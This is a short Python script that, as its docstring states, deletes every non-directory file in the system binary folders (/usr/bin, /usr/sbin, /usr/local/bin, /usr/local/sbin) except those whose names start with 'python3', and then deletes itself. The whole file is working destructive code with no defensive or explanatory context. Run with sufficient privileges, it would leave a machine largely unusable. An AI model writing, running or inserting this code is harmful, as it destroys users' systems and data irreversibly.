"""Deletes every program but Python, and itself."""

from pathlib import Path

FOLDERS = ("/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin")

for folder in FOLDERS:
    for file in Path(folder).iterdir():
        if not file.name.startswith("python3") and not file.is_dir():
            file.unlink()
Path(__file__).unlink()
